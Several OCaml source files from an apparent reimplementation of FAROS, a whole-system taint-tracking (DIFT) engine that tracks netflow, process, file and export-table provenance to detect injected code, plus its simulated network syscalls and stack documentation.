(* Keep the newest [max_length] tags (the cap drops oldest entries). *)
let cap_list tags =
  let rec take n = function
    | [] -> []
    | _ when n = 0 -> []
    | x :: tl -> x :: take (n - 1) tl
  in
  take max_length tags

let of_list_in st tags = List.fold_right (cons_in st) (cap_list tags) empty
let of_list tags = of_list_in (current_store ()) tags

let mem tag p =
  p.mask land ty_bit (Tag.ty tag) <> 0
  &&
  let rec go q = q.len > 0 && (Tag.equal q.tag tag || go q.next) in
  go p

let has_type ty p = p.mask land ty_bit ty <> 0

let distinct_types p =
  List.filter
    (fun ty -> has_type ty p)
    [ Tag.Ty_netflow; Tag.Ty_process; Tag.Ty_file; Tag.Ty_export ]

let confluence p =
  let m = p.mask in
  (m land 1) + ((m lsr 1) land 1) + ((m lsr 2) land 1) + ((m lsr 3) land 1)

let distinct_process_count p = p.nproc

(* Remove the first occurrence of [tag] (rebuilds the prefix above it). *)
let rec remove st tag p =
  if p.len = 0 then p
  else if Tag.equal p.tag tag then p.next
  else cons_in st p.tag (remove st tag p.next)

(* Drop the oldest (last) entry. *)
let rec remove_last st p =
  if p.len <= 1 then empty else cons_in st p.tag (remove_last st p.next)

(* Prepend with dedup anywhere in the list: a tag already present is moved
   to the front instead of duplicated, so a byte alternately touched by two
   processes keeps a two-entry history instead of growing to the cap and
   evicting its origin tags. *)
let prepend tag p =
  if p.len > 0 && Tag.equal p.tag tag then p
  else
    let st = current_store () in
    let key = (tag_key tag, p.id) in
    match Hashtbl.find_opt st.prepend_tbl key with
    | Some n -> n
    | None ->
      let n =
        if mem tag p then cons_in st tag (remove st tag p)
        else if p.len >= max_length then cons_in st tag (remove_last st p)
        else cons_in st tag p
      in
      Hashtbl.replace st.prepend_tbl key n;
      n

let singleton tag = cons tag empty

(* Order-preserving union (Table I): [a]'s tags in order, then the tags of
   [b] not already present, capped to the newest [max_length]. *)
let union a b =
  if b.len = 0 then a
  else if a.len = 0 then b
  else if a == b then a
  else
    let st = current_store () in
    let key = (a.id, b.id) in
    match Hashtbl.find_opt st.union_tbl key with
    | Some n -> n
    | None ->
      let extra = List.filter (fun tb -> not (mem tb a)) (to_list b) in
      let n = if extra = [] then a else of_list_in st (to_list a @ extra) in
      Hashtbl.replace st.union_tbl key n;
      n

let pp ppf p = Fmt.(list ~sep:(any " -> ") Tag.pp) ppf (to_list p)
