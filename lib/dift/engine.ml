(* The whole-system DIFT engine.

   Consumes CPU execution effects (per-instruction) and kernel events
   (per-syscall) and maintains shadow state according to the active
   {!Policy}.  Three responsibilities:

   - tag insertion: netflow tags on received packets, file tags on file I/O
     (including image loads), process tags whenever a process touches an
     already-tainted byte — *including instruction fetch*, which is how a
     victim process's tag ends up on injected code;
   - tag propagation: Table I's copy/union/delete per instruction, plus the
     policy-controlled indirect flows (address and control dependencies);
   - observation: load observers receive, for every executed load, the
     provenance of the instruction's own code bytes and of the data it
     read — the exact inputs of FAROS's flagging rule. *)

type load_info = {
  li_asid : int;
  li_pc : int;
  li_instr : Faros_vm.Isa.t;
  li_instr_prov : Provenance.t;
  li_read_vaddr : int;
  li_read_paddr : int;
  li_read_prov : Provenance.t;
}

type t = {
  shadow : Shadow.t;
  store : Tag_store.t;
  interner : Prov_intern.store;  (* the interner this engine's state lives in *)
  policy : Policy.t;
  file_shadow : (string, Provenance.t array ref) Hashtbl.t;
  control : (int, int * Provenance.t) Hashtbl.t;  (* asid -> window left, prov *)
  load_observers : (load_info -> unit) Queue.t;  (* invoked in registration order *)
  metrics : Faros_obs.Metrics.t;
  trace : Faros_obs.Trace.t;
  profile : Faros_obs.Profile.t;  (* span profiler; shared with the machine *)
  c_instrs : Faros_obs.Metrics.counter;
  c_os_events : Faros_obs.Metrics.counter;
  c_netflow_inserts : Faros_obs.Metrics.counter;
  c_file_inserts : Faros_obs.Metrics.counter;
  c_export_inserts : Faros_obs.Metrics.counter;
}

let create ?(policy = Policy.faros_default) ?(metrics = Faros_obs.Metrics.create ())
    ?(trace = Faros_obs.Trace.null) ?(profile = Faros_obs.Profile.disabled)
    ?(interner = Prov_intern.current_store ()) () =
  {
    shadow = Shadow.create ~trace ~interner ();
    store = Tag_store.create ();
    interner;
    policy;
    file_shadow = Hashtbl.create 16;
    control = Hashtbl.create 8;
    load_observers = Queue.create ();
    metrics;
    trace;
    profile;
    c_instrs = Faros_obs.Metrics.counter metrics "engine.instrs";
    c_os_events = Faros_obs.Metrics.counter metrics "engine.os_events";
    c_netflow_inserts =
      Faros_obs.Metrics.counter metrics "engine.tag_inserts.netflow";
    c_file_inserts = Faros_obs.Metrics.counter metrics "engine.tag_inserts.file";
    c_export_inserts =
      Faros_obs.Metrics.counter metrics "engine.tag_inserts.export";
  }

(* O(1) registration; a Queue iterates in insertion order, preserving the
   callback order the old append-based list gave. *)
let add_load_observer t f = Queue.add f t.load_observers

(* Process-tag insertion: a byte a process touches records that process at
   the head of its provenance list — but only bytes already involved with
   taint, per Fig. 5. Returns the byte's (possibly updated) provenance. *)
let touch_byte t ~ptag paddr =
  let p = Shadow.get_mem t.shadow paddr in
  if Provenance.is_empty p then p
  else begin
    let p' = Provenance.prepend (Lazy.force ptag) p in
    Shadow.set_mem t.shadow paddr p';
    p'
  end

let touch_range t ~ptag paddr width =
  let rec go i acc =
    if i >= width then acc
    else go (i + 1) (Provenance.union acc (touch_byte t ~ptag (paddr + i)))
  in
  go 0 Provenance.empty

(* Provenance contributed by the registers an effective address uses, when
   the policy propagates address dependencies. *)
let address_dep_prov t ~asid ~width (a : Faros_vm.Isa.addr) =
  if not (Policy.address_dep_applies t.policy ~width) then Provenance.empty
  else
    let reg_prov = function
      | Some r -> Shadow.get_reg t.shadow ~asid r
      | None -> Provenance.empty
    in
    Provenance.union (reg_prov a.base) (reg_prov a.index)

(* Control-dependency window: provenance that taints all writes while a
   tainted conditional's influence lasts. *)
let control_prov t ~asid =
  if not t.policy.control_deps then Provenance.empty
  else
    match Hashtbl.find_opt t.control asid with
    | Some (n, prov) when n > 0 -> prov
    | Some _ | None -> Provenance.empty

let tick_control t ~asid =
  if t.policy.control_deps then
    match Hashtbl.find_opt t.control asid with
    | Some (n, prov) when n > 1 -> Hashtbl.replace t.control asid (n - 1, prov)
    | Some _ -> Hashtbl.remove t.control asid
    | None -> ()

let open_control_window t ~asid prov =
  if t.policy.control_deps && not (Provenance.is_empty prov) then begin
    (* Taint-creation event the shadow tables cannot see: while the window
       is open every write in this asid picks up [prov], so cached
       "nothing tainted in reach" fast-path verdicts are now stale. *)
    Shadow.bump_generation t.shadow;
    Hashtbl.replace t.control asid (t.policy.control_dep_window, prov)
  end

let control_active t ~asid = t.policy.control_deps && Hashtbl.mem t.control asid

(* -- per-instruction propagation -- *)

let propagate_exec t (_cpu : Faros_vm.Cpu.t) (eff : Faros_vm.Cpu.effect) =
  Faros_obs.Metrics.incr t.c_instrs;
  let asid = eff.e_asid in
  let ptag = lazy (Tag_store.process t.store asid) in
  tick_control t ~asid;
  let cdep = control_prov t ~asid in
  let adjust prov = Provenance.union prov cdep in
  (* Instruction fetch is a memory access by this process. *)
  let instr_prov =
    Array.fold_left
      (fun acc paddr -> Provenance.union acc (touch_byte t ~ptag paddr))
      Provenance.empty eff.e_code_paddrs
  in
  let get_reg r = Shadow.get_reg t.shadow ~asid r in
  let set_reg r prov = Shadow.set_reg t.shadow ~asid r (adjust prov) in
  let set_mem_access (acc : Faros_vm.Cpu.mem_access) prov =
    let prov = adjust prov in
    let final =
      if Provenance.is_empty prov then prov
      else Provenance.prepend (Lazy.force ptag) prov
    in
    Shadow.set_mem_range t.shadow acc.paddr acc.width final
  in
  let imm_prov = if t.policy.taint_immediates then instr_prov else Provenance.empty in
  let notify_load (acc : Faros_vm.Cpu.mem_access) prov =
    if not (Queue.is_empty t.load_observers) then begin
      let info =
        {
          li_asid = asid;
          li_pc = eff.e_pc;
          li_instr = eff.e_instr;
          li_instr_prov = instr_prov;
          li_read_vaddr = acc.vaddr;
          li_read_paddr = acc.paddr;
          li_read_prov = prov;
        }
      in
      Queue.iter (fun f -> f info) t.load_observers
    end
  in
  match eff.e_instr with
  | Nop | Halt | Syscall | Int3 | Jmp _ | Jmp_r _ -> ()
  | Mov_ri (r, _) -> set_reg r imm_prov
  | Mov_rr (a, b) -> set_reg a (get_reg b)
  | Load (w, r, a) -> (
    match eff.e_loads with
    | acc :: _ ->
      let data_prov = touch_range t ~ptag acc.paddr acc.width in
      notify_load acc data_prov;
      set_reg r (Provenance.union data_prov (address_dep_prov t ~asid ~width:w a))
    | [] -> ())
  | Store (w, a, r) -> (
    match eff.e_stores with
    | acc :: _ ->
      let prov =
        Provenance.union (get_reg r) (address_dep_prov t ~asid ~width:w a)
      in
      set_mem_access acc prov
    | [] -> ())
  | Lea (r, a) ->
    let reg_prov = function Some x -> get_reg x | None -> Provenance.empty in
    set_reg r (Provenance.union (reg_prov a.base) (reg_prov a.index))
  | Push r -> (
    match eff.e_stores with
    | acc :: _ -> set_mem_access acc (get_reg r)
    | [] -> ())
  | Pop r -> (
    match eff.e_loads with
    | acc :: _ ->
      let prov = touch_range t ~ptag acc.paddr acc.width in
      notify_load acc prov;
      set_reg r prov
    | [] -> ())
  | Add_rr (a, b) | Sub_rr (a, b) | Mul_rr (a, b) | And_rr (a, b) | Or_rr (a, b)
  | Shl_rr (a, b) | Shr_rr (a, b) ->
    set_reg a (Provenance.union (get_reg a) (get_reg b))
  | Xor_rr (a, b) ->
    (* xor r, r zeroes the value: Table I's delete. *)
    if a = b then set_reg a Provenance.empty
    else set_reg a (Provenance.union (get_reg a) (get_reg b))
  | Add_ri (a, _) | Sub_ri (a, _) | And_ri (a, _) | Or_ri (a, _) | Xor_ri (a, _)
  | Shl_ri (a, _) | Shr_ri (a, _) ->
    set_reg a (Provenance.union (get_reg a) imm_prov)
  | Not_r _ -> ()
  | Cmp_rr (a, b) | Test_rr (a, b) ->
    if t.policy.control_deps then
      Shadow.set_flags t.shadow ~asid (Provenance.union (get_reg a) (get_reg b))
  | Cmp_ri (a, _) ->
    if t.policy.control_deps then
      Shadow.set_flags t.shadow ~asid (Provenance.union (get_reg a) imm_prov)
  | Jz _ | Jnz _ | Jl _ | Jge _ | Jg _ | Jle _ ->
    open_control_window t ~asid (Shadow.get_flags t.shadow ~asid)
  | Call _ | Call_r _ -> (
    (* The pushed return address derives from the PC, not from data. *)
    match eff.e_stores with
    | acc :: _ -> Shadow.set_mem_range t.shadow acc.paddr acc.width Provenance.empty
    | [] -> ())
  | Ret -> ()

(* [dift.propagate] is the slow path proper — what the fast path exists
   to avoid; its self time is the headline DIFT cost in the hotspot
   table. *)
let on_exec t cpu eff =
  let prof = t.profile in
  if Faros_obs.Profile.enabled prof then begin
    Faros_obs.Profile.enter prof "dift.propagate";
    propagate_exec t cpu eff;
    Faros_obs.Profile.exit prof
  end
  else propagate_exec t cpu eff

(* -- fast-path support -- *)

(* An instruction the fast path proved propagation-free still counts as
   processed: downstream accounting (and the pinned `faros stats`
   goldens) see the same engine.instrs either way. *)
let note_skipped t = Faros_obs.Metrics.incr t.c_instrs

(* A skipped load still reaches the observers — the detector counts every
   executed load.  The skip preconditions guarantee the data read was
   untainted (so [li_read_prov] is the empty the slow path would have
   computed) and that [instr_prov] — empty for a code-clean block, the
   cached converged fetch provenance otherwise — is exactly the slow
   path's [li_instr_prov], so observation stays byte-identical. *)
let notify_skipped_load t ~instr_prov (eff : Faros_vm.Cpu.effect) =
  match eff.e_instr with
  | Load _ | Pop _ -> (
    match eff.e_loads with
    | acc :: _ ->
      if not (Queue.is_empty t.load_observers) then begin
        let info =
          {
            li_asid = eff.e_asid;
            li_pc = eff.e_pc;
            li_instr = eff.e_instr;
            li_instr_prov = instr_prov;
            li_read_vaddr = acc.vaddr;
            li_read_paddr = acc.paddr;
            li_read_prov = Provenance.empty;
          }
        in
        Queue.iter (fun f -> f info) t.load_observers
      end
    | [] -> ())
  | _ -> ()

(* -- kernel-event handling: tag insertion and host-side copies -- *)

let file_array t path len_hint =
  let arr =
    match Hashtbl.find_opt t.file_shadow path with
    | Some a -> a
    | None ->
      let a = ref (Array.make (max len_hint 16) Provenance.empty) in
      Hashtbl.replace t.file_shadow path a;
      a
  in
  if Array.length !arr < len_hint then begin
    let grown = Array.make (max len_hint (2 * Array.length !arr)) Provenance.empty in
    Array.blit !arr 0 grown 0 (Array.length !arr);
    arr := grown
  end;
  arr

(* [resolve_asid] maps a pid to its CR3; provided by the embedding analysis
   (the kernel knows, the engine must not depend on it). *)
let handle_os_event t ~resolve_asid (ev : Faros_os.Os_event.t) =
  Faros_obs.Metrics.incr t.c_os_events;
  let trace_tag_insert ~pid ~ty ~subject ~bytes =
    if Faros_obs.Trace.enabled t.trace then
      Faros_obs.Trace.emit t.trace ~cat:"engine" ~name:"tag_insert" ~pid
        [ ("type", Str ty); ("subject", Str subject); ("bytes", Int bytes) ]
  in
  match ev with
  | Net_recv { pid; flow; dst_paddrs } ->
    (* Fresh network data overwrites whatever was there. *)
    Faros_obs.Metrics.incr t.c_netflow_inserts;
    trace_tag_insert ~pid ~ty:"netflow"
      ~subject:(Fmt.str "%a" Faros_os.Types.pp_flow flow)
      ~bytes:(List.length dst_paddrs);
    let tag = Tag_store.netflow t.store flow in
    let prov = Provenance.singleton tag in
    List.iter (fun paddr -> Shadow.set_mem t.shadow paddr prov) dst_paddrs
  | File_read { pid; path; version; offset; dst_paddrs } ->
    (* Provenance flows through the file's shadow in any policy; the file
       tag itself is only inserted when the policy tracks files. *)
    let tag_it =
      if t.policy.track_files then begin
        Faros_obs.Metrics.incr t.c_file_inserts;
        trace_tag_insert ~pid ~ty:"file" ~subject:path
          ~bytes:(List.length dst_paddrs);
        Provenance.prepend (Tag_store.file t.store ~name:path ~version)
      end
      else Fun.id
    in
    let arr = file_array t path (offset + List.length dst_paddrs) in
    List.iteri
      (fun i paddr -> Shadow.set_mem t.shadow paddr (tag_it !arr.(offset + i)))
      dst_paddrs
  | File_write { pid; path; version; offset; src_paddrs } ->
    let tag_it =
      if t.policy.track_files then begin
        Faros_obs.Metrics.incr t.c_file_inserts;
        trace_tag_insert ~pid ~ty:"file" ~subject:path
          ~bytes:(List.length src_paddrs);
        Provenance.prepend (Tag_store.file t.store ~name:path ~version)
      end
      else Fun.id
    in
    let arr = file_array t path (offset + List.length src_paddrs) in
    List.iteri
      (fun i paddr ->
        let p = tag_it (Shadow.get_mem t.shadow paddr) in
        !arr.(offset + i) <- p;
        Shadow.set_mem t.shadow paddr p)
      src_paddrs
  | Mem_copy { by; src_paddrs; dst_paddrs; _ } ->
    let ptag =
      match resolve_asid by with
      | Some asid -> Some (Tag_store.process t.store asid)
      | None -> None
    in
    List.iter2
      (fun src dst ->
        let p = Shadow.get_mem t.shadow src in
        if Provenance.is_empty p then Shadow.set_mem t.shadow dst Provenance.empty
        else begin
          let p' =
            match ptag with Some tag -> Provenance.prepend tag p | None -> p
          in
          Shadow.set_mem t.shadow src p';
          Shadow.set_mem t.shadow dst p'
        end)
      src_paddrs dst_paddrs
  | File_deleted { path; _ } -> Hashtbl.remove t.file_shadow path
  | Proc_created _ | Proc_exited _ | Proc_suspended _ | Proc_resumed _
  | Proc_unmapped _ | Sys_enter _ | Sys_exit _ | File_opened _ | Net_connect _
  | Net_accept _ | Net_send _ | Net_closed _ | Mem_alloc _ | Module_loaded _
  | Context_set _
  | Popup _ | Debug_print _ | Key_read _ | Audio_read _ | Screenshot _ ->
    ()

(* Tag insertion nests under [kernel.syscall] (kernel dispatch emits the
   event while its span is open), so the tree separates syscall handling
   proper from the DIFT work it triggers. *)
let on_os_event t ~resolve_asid ev =
  let prof = t.profile in
  if Faros_obs.Profile.enabled prof then begin
    Faros_obs.Profile.enter prof "dift.os_event";
    handle_os_event t ~resolve_asid ev;
    Faros_obs.Profile.exit prof
  end
  else handle_os_event t ~resolve_asid ev

(* Mark the kernel export directory's function pointers (taint insertion for
   the export-table tag; the paper scans loaded modules at startup).  Each
   pointer's tag carries the exported function's identity — the per-function
   information the paper lists as future work. *)
let taint_export_pointers t entries =
  List.iter
    (fun (name, paddrs) ->
      Faros_obs.Metrics.incr t.c_export_inserts;
      if Faros_obs.Trace.enabled t.trace then
        Faros_obs.Trace.emit t.trace ~cat:"engine" ~name:"tag_insert" ~pid:0
          [
            ("type", Str "export");
            ("subject", Str name);
            ("bytes", Int (List.length paddrs));
          ];
      let tag = Tag_store.export t.store ~name in
      List.iter
        (fun paddr ->
          Shadow.set_mem t.shadow paddr
            (Provenance.prepend tag (Shadow.get_mem t.shadow paddr)))
        paddrs)
    entries

let instrs_processed t = Faros_obs.Metrics.counter_value t.c_instrs

(* Push the current sizes of the shadow and tag stores into registry
   gauges, so `faros stats` renders live state next to the counters. *)
let refresh_metrics t =
  let set name v = Faros_obs.Metrics.set (Faros_obs.Metrics.gauge t.metrics name) v in
  set "shadow.tainted_bytes" (Shadow.tainted_bytes t.shadow);
  set "shadow.tainted_regs" (Shadow.tainted_regs t.shadow);
  set "shadow.pages" (Shadow.pages t.shadow);
  set "store.netflow_tags" (Tag_store.netflow_count t.store);
  set "store.process_tags" (Tag_store.process_count t.store);
  set "store.file_tags" (Tag_store.file_count t.store);
  set "store.export_tags" (Tag_store.export_count t.store);
  set "prov.interned" (Prov_intern.store_interned_count t.interner)

type stats = {
  instrs : int;
  tainted_bytes : int;
  netflow_tags : int;
  process_tags : int;
  file_tags : int;
}

let stats t =
  refresh_metrics t;
  {
    instrs = instrs_processed t;
    tainted_bytes = Shadow.tainted_bytes t.shadow;
    netflow_tags = Tag_store.netflow_count t.store;
    process_tags = Tag_store.process_count t.store;
    file_tags = Tag_store.file_count t.store;
  }
