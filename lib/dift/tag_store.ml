(* The three tag hash maps of Fig. 5.

   Each map interns the payload of a tag type — netflow 4-tuples, process
   CR3 values, (file name, version) pairs — and hands out the 16-bit index
   a prov_tag carries.  Entries exist only for objects that have been
   involved with tainted bytes, which is what bounds the maps. *)

type file_id = { file_name : string; file_version : int }

type t = {
  netflows : (Faros_os.Types.flow, int) Hashtbl.t;
  netflow_rev : (int, Faros_os.Types.flow) Hashtbl.t;
  processes : (int, int) Hashtbl.t;  (* cr3 -> index *)
  process_rev : (int, int) Hashtbl.t;
  files : (file_id, int) Hashtbl.t;
  file_rev : (int, file_id) Hashtbl.t;
  exports : (string, int) Hashtbl.t;  (* exported function name -> index *)
  export_rev : (int, string) Hashtbl.t;
  mutable next_netflow : int;
  mutable next_process : int;
  mutable next_file : int;
  mutable next_export : int;
}

let create () =
  {
    netflows = Hashtbl.create 16;
    netflow_rev = Hashtbl.create 16;
    processes = Hashtbl.create 16;
    process_rev = Hashtbl.create 16;
    files = Hashtbl.create 16;
    file_rev = Hashtbl.create 16;
    exports = Hashtbl.create 16;
    export_rev = Hashtbl.create 16;
    next_netflow = 0;
    next_process = 0;
    next_file = 0;
    next_export = 0;
  }

exception Overflow of string

(* prov_tags carry 16-bit indices on the wire (Fig. 6); refuse to mint an
   index that cannot be encoded, naming the store that filled up, instead
   of letting Tag.encode raise much later with no hint of the culprit. *)
let max_index = 0xFFFF

let intern ~store fwd rev next key =
  match Hashtbl.find_opt fwd key with
  | Some i -> i
  | None ->
    let i = !next in
    if i > max_index then
      raise
        (Overflow
           (Printf.sprintf
              "%s tag store overflow: index %d does not fit the 16-bit \
               prov_tag wire format"
              store i));
    incr next;
    Hashtbl.replace fwd key i;
    Hashtbl.replace rev i key;
    i

let netflow t flow =
  let next = ref t.next_netflow in
  let i = intern ~store:"netflow" t.netflows t.netflow_rev next flow in
  t.next_netflow <- !next;
  Tag.Netflow i

let process t cr3 =
  let next = ref t.next_process in
  let i = intern ~store:"process" t.processes t.process_rev next cr3 in
  t.next_process <- !next;
  Tag.Process i

let file t ~name ~version =
  let next = ref t.next_file in
  let i =
    intern ~store:"file" t.files t.file_rev next
      { file_name = name; file_version = version }
  in
  t.next_file <- !next;
  Tag.File i

(* The future-work extension of Section V-A: export-table tags carrying the
   touched function's identity. *)
let export t ~name =
  let next = ref t.next_export in
  let i = intern ~store:"export" t.exports t.export_rev next name in
  t.next_export <- !next;
  Tag.Export_table i

let netflow_of t i = Hashtbl.find_opt t.netflow_rev i
let cr3_of t i = Hashtbl.find_opt t.process_rev i
let export_of t i = Hashtbl.find_opt t.export_rev i
let file_of t i = Hashtbl.find_opt t.file_rev i

let netflow_count t = t.next_netflow
let process_count t = t.next_process
let file_count t = t.next_file
let export_count t = t.next_export
