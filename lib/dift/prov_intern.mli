(** Hash-consed provenance lists.

    Every distinct provenance list is interned exactly once; a list is
    identified by a dense integer {!id}, with {b id 0 reserved for the
    empty provenance} — the invariant {!Shadow}'s paged layout relies on
    (its pages are int arrays where 0 means "untracked byte").

    Equality is physical equality, ids are perfect hashes, and the Table I
    operations ({!prepend}, {!union}) are memoized per id, so the steady
    state of a replay does no list traversal.  Each interned node also
    caches a bitmask of the tag types present and the distinct-process
    count, making the detector's confluence queries integer compares.

    {2 Stores and domain safety}

    All mutable interner state (the id table and the three memo tables)
    lives in a {!store}.  Every domain owns a {e current} store, kept in
    domain-local storage: a fresh domain lazily gets a fresh store, so
    two domains never mutate the same tables.  Concurrent analyses that
    must not share state additionally install a {e fresh} store per job
    ({!set_store} / {!with_store}).

    Contract: an interned value is only meaningful relative to the store
    that minted it.  Never mix values from two stores in one operation,
    and never resolve an id against a store that did not issue it — ids
    are dense per store, so they collide across stores.  {!empty} (id 0)
    is the one value shared by construction. *)

type t

type store
(** One interner instance.  Not thread-safe: a store must only ever be
    used by one domain at a time. *)

val create_store : unit -> store
(** A fresh, empty interner (only id 0, {!empty}, pre-registered). *)

val current_store : unit -> store
(** This domain's active store.  Every construction below goes through
    it. *)

val set_store : store -> unit
(** Install [store] as this domain's active store.  Subsequent
    constructions intern into it; values minted under the previous store
    must no longer be used. *)

val with_store : store -> (unit -> 'a) -> 'a
(** [with_store st f] runs [f] with [st] installed, restoring the
    previous store afterwards (also on exceptions). *)

val store_interned_count : store -> int
(** Number of distinct lists interned into [store]. *)

val resolve : store -> int -> t
(** [resolve store id] is the node [store] issued [id] to.  Raises
    [Invalid_argument] on an id the store never issued. *)

val empty : t
(** The empty provenance; the unique node with {!id} 0 (shared by every
    store). *)

val max_length : int
(** Length cap; constructors drop the {e oldest} entries beyond it. *)

val id : t -> int
(** Dense non-negative integer identifying this list within its store;
    0 iff empty. *)

val of_id : int -> t
(** [resolve (current_store ())] — inverse of {!id} for values minted
    under this domain's active store. *)

val length : t -> int
val is_empty : t -> bool

val equal : t -> t -> bool
(** Physical equality — valid because lists are interned. *)

val hash : t -> int

val of_list : Tag.t list -> t
(** Intern a newest-first tag list as-is (capped to {!max_length}). *)

val to_list : t -> Tag.t list
(** The tags, newest first. *)

val head : t -> Tag.t option
(** The newest tag, without materializing the list.  [head p = Some tag]
    iff [prepend tag p == p] — the fast path's fetch-convergence probe. *)

val singleton : Tag.t -> t

val prepend : Tag.t -> t -> t
(** [prepend tag p] puts [tag] at the head (newest position).  A no-op
    when [tag] is already the head; when [tag] is present deeper in the
    list it is {e moved} to the front rather than duplicated, so repeated
    touches by alternating processes cannot grow the list and evict its
    origin tags.  Memoized on [(tag, id p)]. *)

val union : t -> t -> t
(** Table I's union: [a]'s tags in order, then tags of [b] not already
    present, capped.  Memoized on [(id a, id b)]. *)

val mem : Tag.t -> t -> bool
val has_type : Tag.ty -> t -> bool

val distinct_types : t -> Tag.ty list
(** Tag types present, in [Tag.ty] declaration order. *)

val confluence : t -> int
(** Number of distinct tag types present (popcount of the cached mask). *)

val distinct_process_count : t -> int
(** Number of distinct process-tag indices (cached at intern time). *)

val interned_count : unit -> int
(** [store_interned_count (current_store ())], for memory accounting. *)

val pp : t Fmt.t
