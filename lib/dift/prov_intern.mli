(** Hash-consed provenance lists.

    Every distinct provenance list is interned exactly once; a list is
    identified by a dense integer {!id}, with {b id 0 reserved for the
    empty provenance} — the invariant {!Shadow}'s paged layout relies on
    (its pages are int arrays where 0 means "untracked byte").

    Equality is physical equality, ids are perfect hashes, and the Table I
    operations ({!prepend}, {!union}) are memoized per id, so the steady
    state of a replay does no list traversal.  Each interned node also
    caches a bitmask of the tag types present and the distinct-process
    count, making the detector's confluence queries integer compares. *)

type t

val empty : t
(** The empty provenance; the unique node with {!id} 0. *)

val max_length : int
(** Length cap; constructors drop the {e oldest} entries beyond it. *)

val id : t -> int
(** Dense non-negative integer identifying this list; 0 iff empty. *)

val of_id : int -> t
(** Inverse of {!id}.  Raises [Invalid_argument] on an id never issued. *)

val length : t -> int
val is_empty : t -> bool

val equal : t -> t -> bool
(** Physical equality — valid because lists are interned. *)

val hash : t -> int

val of_list : Tag.t list -> t
(** Intern a newest-first tag list as-is (capped to {!max_length}). *)

val to_list : t -> Tag.t list
(** The tags, newest first. *)

val singleton : Tag.t -> t

val prepend : Tag.t -> t -> t
(** [prepend tag p] puts [tag] at the head (newest position).  A no-op
    when [tag] is already the head; when [tag] is present deeper in the
    list it is {e moved} to the front rather than duplicated, so repeated
    touches by alternating processes cannot grow the list and evict its
    origin tags.  Memoized on [(tag, id p)]. *)

val union : t -> t -> t
(** Table I's union: [a]'s tags in order, then tags of [b] not already
    present, capped.  Memoized on [(id a, id b)]. *)

val mem : Tag.t -> t -> bool
val has_type : Tag.ty -> t -> bool

val distinct_types : t -> Tag.ty list
(** Tag types present, in [Tag.ty] declaration order. *)

val confluence : t -> int
(** Number of distinct tag types present (popcount of the cached mask). *)

val distinct_process_count : t -> int
(** Number of distinct process-tag indices (cached at intern time). *)

val interned_count : unit -> int
(** Number of distinct lists interned so far, for memory accounting. *)

val pp : t Fmt.t
