(* Network syscalls.  [recv] is the taint source for netflow tags: the
   kernel reports the flow and the physical addresses the payload landed on,
   and FAROS's taint-insertion pass tags every one of those bytes. *)

let err = -1 land Faros_vm.Word.mask
let max_io = 1 lsl 20

let socket (k : Kstate.t) (p : Process.t) _ =
  Process.alloc_handle p (Hsock (Netstack.socket k.net))

let with_sock (p : Process.t) h f =
  match Process.find_handle p h with
  | Some (Hsock sid) -> f sid
  | Some (Hfile _ | Hproc _) | None -> err

(* r1 = handle, r2 = ip (u32), r3 = port *)
let connect (k : Kstate.t) (p : Process.t) args =
  with_sock p args.(0) (fun sid ->
      match Netstack.connect k.net sid ~ip:args.(1) ~port:args.(2) with
      | flow ->
        Kstate.emit k (Os_event.Net_connect { pid = p.pid; flow });
        0
      | exception Netstack.Connection_refused _ -> err)

(* r1 = handle, r2 = buf, r3 = len *)
let send (k : Kstate.t) (p : Process.t) args =
  with_sock p args.(0) (fun sid ->
      let len = args.(2) in
      if len < 0 || len > max_io then err
      else begin
        let data = Kstate.read_guest_bytes k p args.(1) len in
        match Netstack.flow_of k.net sid with
        | None -> err
        | Some flow ->
          Kstate.emit k
            (Os_event.Net_send
               { pid = p.pid; flow; src_paddrs = Kstate.phys_range k p args.(1) len });
          Netstack.send k.net sid (Bytes.to_string data)
      end)

(* r1 = handle, r2 = port.  Claim a local port for a guest server. *)
let bind (k : Kstate.t) (p : Process.t) args =
  with_sock p args.(0) (fun sid ->
      match Netstack.bind k.net sid ~port:args.(1) with
      | () -> 0
      | exception Netstack.Bad_socket _ -> err)

(* r1 = handle *)
let listen (k : Kstate.t) (p : Process.t) args =
  with_sock p args.(0) (fun sid ->
      match Netstack.listen k.net sid with
      | () -> 0
      | exception Netstack.Bad_socket _ -> err)

(* r1 = handle.  Returns a handle for the accepted connection, or -1 when
   nothing is pending (guests poll). *)
let accept (k : Kstate.t) (p : Process.t) args =
  with_sock p args.(0) (fun sid ->
      match Netstack.accept k.net sid with
      | Some conn ->
        (match Netstack.flow_of k.net conn with
        | Some flow -> Kstate.emit k (Os_event.Net_accept { pid = p.pid; flow })
        | None -> ());
        Process.alloc_handle p (Hsock conn)
      | None -> err
      | exception Netstack.Bad_socket _ -> err)

(* r1 = handle, r2 = buf, r3 = len.  Returns bytes received, 0 when
   nothing is pending yet, or -1 once the stream is at EOF (remote side
   closed and every byte drained) — how a server worker knows a client is
   done without a length prefix. *)
let recv (k : Kstate.t) (p : Process.t) args =
  with_sock p args.(0) (fun sid ->
      let len = args.(2) in
      if len < 0 || len > max_io then err
      else begin
        let data = Netstack.recv k.net sid ~len in
        let n = String.length data in
        if n > 0 then begin
          Kstate.write_guest_bytes k p args.(1) (Bytes.of_string data);
          match Netstack.flow_of k.net sid with
          | Some flow ->
            Kstate.emit k
              (Os_event.Net_recv
                 { pid = p.pid; flow; dst_paddrs = Kstate.phys_range k p args.(1) n })
          | None -> ()
        end;
        if n = 0 && Netstack.eof k.net sid then err else n
      end)

(* r1 = handle.  Readiness bitmask: listener — bit 0 = connection waiting
   to be accepted; connected socket — bit 0 = bytes available, bit 1 =
   stream at EOF.  Lets servers sleep (yield) instead of spinning. *)
let poll (k : Kstate.t) (p : Process.t) args =
  with_sock p args.(0) (fun sid ->
      match Netstack.readiness k.net sid with
      | r -> r
      | exception Netstack.Bad_socket _ -> err)
