(** A miniature TCP-like network stack.

    Remote endpoints are {!actor}s: host-side scripts standing in for the
    attacker machine (Metasploit listener, C2 server, web server).  In live
    (record) mode actors respond to guest connects/sends and their payloads
    are handed to the record sink; in replay mode actors are never
    consulted and received data comes from the recorded trace — the PANDA
    record/replay discipline, where network input is the non-deterministic
    event.

    Traffic also flows the other way: host-side clients initiate
    connections {e to} the guest as a tick-stamped {!inbound_event}
    schedule, pumped at scheduler slice boundaries ({!pump}).  Record mode
    consumes a generator's schedule and reports every {e delivered} event
    to the inbound sink with its actual delivery tick; replay mode consumes
    the recorded schedule and — because slice boundaries replay
    identically — delivers the same bytes at the same ticks.  Undeliverable
    events (no listener, closed socket) are dropped unrecorded in both
    modes alike.

    Ephemeral ports are allocated deterministically starting at
